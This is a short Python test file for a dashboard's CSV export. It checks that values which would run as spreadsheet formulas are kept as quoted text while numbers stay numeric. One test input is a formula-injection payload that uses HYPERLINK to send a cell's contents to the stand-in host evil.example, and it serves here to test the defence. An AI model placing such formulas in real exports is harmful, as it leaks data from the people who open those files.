"""spreadsheet.py: a downloaded table opens in a spreadsheet as the text it holds."""

from __future__ import annotations

import csv
import io

import pandas as pd

from glassline.dashboard.spreadsheet import to_csv


def test_text_a_spreadsheet_would_run_is_kept_as_text_and_numbers_stay_numbers() -> None:
    users = ['=HYPERLINK("https://evil.example/?d="&B2,"open")', "+1", "-2+3", "@SUM(A1)", "ann"]
    frame = pd.DataFrame({"user": users, "cost_usd": [-5.0, 1.0, 2.5, 0.0, 3.0]})
    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
    assert [r["user"] for r in rows] == [f"'{u}" for u in users[:4]] + ["ann"]
    assert [r["cost_usd"] for r in rows] == ["-5.0", "1.0", "2.5", "0.0", "3.0"]


def test_a_table_without_text_is_written_as_is() -> None:
    frame = pd.DataFrame({"p95_ms": [-1.5, 2.0], "at": pd.to_datetime([0, 1], unit="s")})
    assert to_csv(frame) == frame.to_csv(index=False)
